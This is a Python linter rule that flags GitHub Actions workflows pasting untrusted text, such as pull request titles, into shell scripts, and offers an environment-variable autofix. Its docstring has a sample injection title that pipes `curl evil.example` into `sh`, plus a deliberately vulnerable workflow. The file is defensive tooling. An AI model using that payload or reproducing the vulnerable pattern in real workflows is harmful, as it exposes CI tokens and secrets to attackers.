"""Text that strangers write is put into a shell script as it is.

## What it does
Reports `${{ … }}` in `run:` scripts (and in scripts given to `actions/github-script`) whose value anybody can
choose: titles and bodies of issues and pull requests, branch names of forks, commit messages. Free-text inputs of
manually started workflows are reported at a lower severity.

## Why it matters
The runner pastes the text before the shell sees it. A pull request called `"; curl evil.example | sh #` runs that
with the job's token and secrets.

## Bad
```yaml title=".github/workflows/greet.yml"
name: greet
on:
  pull_request:
permissions:
  contents: read
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - name: Greet
        run: |
          echo "Thanks for ${{ github.event.pull_request.title }}"  # <-
          echo done
```

## Good
```yaml title=".github/workflows/greet.yml"
name: greet
on:
  pull_request:
permissions:
  contents: read
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - name: Greet
        run: |
          echo "Thanks for ${PULL_REQUEST_TITLE}"
          echo done
        env:
          PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}
```

## Fix
Passes the text through an environment variable, which the shell never reads as code. Safe inside double quotes.
Outside of quotes the variable gets quotes, so that blanks no longer separate words: unsafe.

## References
- [GitHub: script injections](https://docs.github.com/en/actions/concepts/security/script-injections)

## Equivalent rules
- `zizmor:template-injection`
- `actionlint:expression`
- `poutine:injection`
"""

import re
from collections.abc import Iterator
from typing import Final

from rollsafe.artefacts.expressions import Expression, context_paths, find_expressions
from rollsafe.artefacts.github_workflow import Job, Step, Workflow
from rollsafe.artefacts.recognition.untrusted import Trust, trust_of
from rollsafe.formats.nodes import Scalar
from rollsafe.formats.yaml_edit import add_entry
from rollsafe.rules import Confidence, Edit, Finding, Fix, Level, Safety, Severity, Span, rule

_NOT_WORD: Final = re.compile(r"[^A-Z0-9]+")
_DROPPED: Final = frozenset({"GITHUB", "EVENT", "INPUTS"})


@rule(severity=Severity.ERROR, since="0.1.0", fix=Safety.SAFE)
def check(step: Step) -> Iterator[Finding]:
    """Yield a finding for each expression a stranger can fill."""
    script = step.script_node
    if script is None or "${{" not in script.text or step.is_disabled:
        return
    for expression in find_expressions(script.text):
        found = _untrusted(step, expression)
        if found is not None:
            path, trust = found
            yield _finding(step, script, expression, path, trust)


def _untrusted(step: Step, expression: Expression) -> tuple[str, Trust] | None:
    """Return the context a stranger decides and who that is; a mere comparison is none."""
    whole = [path for path, node in context_paths(expression.root) if node is expression.root]
    paths = whole or [path for path, _ in context_paths(expression.root)]
    for path in paths:
        trust = trust_of(path)
        if trust is Trust.ANYBODY and not whole and _only_compares(expression):
            continue
        if trust is Trust.DISPATCHER and (not whole or not _is_free_text(step, path[-1])):
            continue
        if trust is not None:
            return ".".join(path), trust
    return None


def _only_compares(expression: Expression) -> bool:
    return type(expression.root).__name__ in ("Comparison", "Not")


def _is_free_text(step: Step, name: str) -> bool:
    """Say whether an input can hold any text: not a choice, a boolean, a number or an environment."""
    owner = step.owner
    if not isinstance(owner, Job):
        return False
    workflow: Workflow = owner.workflow
    trigger = workflow.triggers.get("workflow_dispatch")
    declared = trigger.inputs.get(name) if trigger is not None else None
    return declared is not None and (declared.text_at("type") or "string") == "string"


def _finding(step: Step, script: Scalar, expression: Expression, path: str, trust: Trust) -> Finding:
    place = Span(step.offsets(expression.start), step.offsets(expression.end))
    anybody = trust is Trust.ANYBODY
    who = "whoever opens it" if anybody else "whoever starts the workflow"
    label = f"`{step.name}`" if step.name else f"step {step.index + 1}"
    return Finding(
        place,
        f"`{path}` is pasted into the script of {label}: {who} writes shell here",
        fixes=tuple(_fixes(step, script, expression, place)),
        severity=None if anybody else Severity.WARNING,
        confidence=Confidence.HIGH if anybody else Confidence.MEDIUM,
        level=None if anybody or step.uses is None else Level.PEDANTIC,
        equivalents=None if anybody else ("zizmor:template-injection",),
        detail="the runner puts the text in before the shell reads the script, so quotes in it end quotes and "
        "commands in it run with the job's token and secrets",
    )


def _fixes(step: Step, script: Scalar, expression: Expression, place: Span) -> Iterator[Fix]:
    shared = not step.start <= script.start < step.end
    if shared or step.run is not script or step.shell not in ("", "bash", "sh") or script.block == ">":
        return
    source = step.file.slice(place)
    quote = _quote_before(script.text, expression.start)
    if quote == "'" or not (source.startswith("${{") and source.endswith("}}")):
        return
    name = _variable(expression, source)
    value = f"${{{name}}}" if quote == '"' else f'"${{{name}}}"'
    if step.file.text[script.start] == '"':
        value = value.replace('"', '\\"')
    env = _environment(step, name, source)
    if env is None:
        return
    same = [
        Span(step.offsets(other.start), step.offsets(other.end))
        for other in find_expressions(script.text)
        if step.file.slice(Span(step.offsets(other.start), step.offsets(other.end))) == source
        and _quote_before(script.text, other.start) == quote
    ]
    edits = tuple(Edit(span, value) for span in same)
    safety = Safety.SAFE if quote == '"' else Safety.UNSAFE
    yield Fix(f"Pass it through the variable `{name}`", safety, edits=(*edits, env))


def _quote_before(script: str, at: int) -> str:
    """Return the quote that is open at an offset of a script's line, or an empty string."""
    line = script[script.rfind("\n", 0, at) + 1 : at]
    quote = ""
    for index, char in enumerate(line):
        escaped = index > 0 and line[index - 1] == "\\" and quote != "'"
        if char in "\"'" and not escaped:
            quote = "" if quote == char else (quote or char)
    return quote


def _variable(expression: Expression, source: str) -> str:
    words = [word for word in _NOT_WORD.split(source.upper()) if word and word not in _DROPPED]
    return "_".join(words[-4:]) or "VALUE"


def _environment(step: Step, name: str, value: str) -> Edit | None:
    """Return the edit that gives the step the variable; None where it has another of that name."""
    env = step.env_node
    if env is None:
        if step.node.flow:
            return None
        return add_entry(step.file.text, step.node, "env", f"{name}: {value}")
    return None if env.entry(name) is not None or env.flow else add_entry(step.file.text, env, name, value)
